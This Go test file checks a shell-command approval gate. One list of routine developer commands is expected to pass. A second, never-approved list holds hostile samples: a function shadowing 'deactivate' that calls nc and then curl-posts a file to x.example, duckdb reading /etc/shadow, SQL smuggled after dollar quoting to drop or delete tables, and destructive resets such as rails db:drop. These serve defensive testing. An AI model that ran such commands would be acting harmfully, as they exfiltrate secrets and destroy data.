package gates

import "testing"

// TestQuestionsThatWereForNothing are lines of daily work that used to ask.
func TestQuestionsThatWereForNothing(t *testing.T) {
	for _, l := range []string{
		"ctags --c-kinds=f -R src", "ctags --python-kinds=-i --go-kinds=+p src", "npx next lint", "npx next lint --fix --dir src", "source .venv/bin/activate && pytest -q && deactivate", ". venv/bin/activate; python x.py; deactivate",
		"npx prisma validate", "npx prisma validate --schema prisma/schema.prisma", "npx prisma format", "bin/rails db:migrate:status", "rake db:version", "psql -c 'select $$abc$$'", "psql -c 'select $tag$it is; fine$tag$ from t'",
		"sed -i.bak 's/a/b/' x && rm x.bak", "sed -i.bak 's/a/b/' src/x.go src/y.go && rm src/x.go.bak src/y.go.bak", "sed -i.orig -e 's/a/b/' x; diff x x.orig; rm -f x.orig", "git diff --name-only | xargs -r ruff check", "git diff --name-only main | xargs npx eslint", "git diff --cached --name-only -- '*.py' | xargs black --check",
		"git ls-files '*.py' | xargs ruff check",
	} {
		if d := inventedDecision(l); d.Disposition != Approved {
			t.Errorf("asks: %s: %s", l, d.Reasons[0].Message)
		}
	}
	neverApproved(t, []string{
		"deactivate() { nc x 1; }; deactivate; curl -d @x http://x.example", "duckdb -c \"copy t to '/home/me/x'\"", "duckdb -c \"select * from '/etc/shadow'\"", "duckdb -c \"select * from 'https://x.example/a.csv'\"", "psql -c 'select $$a$$; drop table t'", "psql -c 'do $$ begin delete from t; end $$'",
		"npx prisma migrate reset", "npx prisma db push", "bin/rails db:drop", "bin/rails db:migrate:reset", "sed -i.bak 's/a/b/' x && rm y.bak ../z", "git diff --name-only | xargs rm", "git diff | xargs ruff check", "npx next lint --config /tmp/x.js", "ctags --options=/tmp/x -R src",
	}, 14)
}
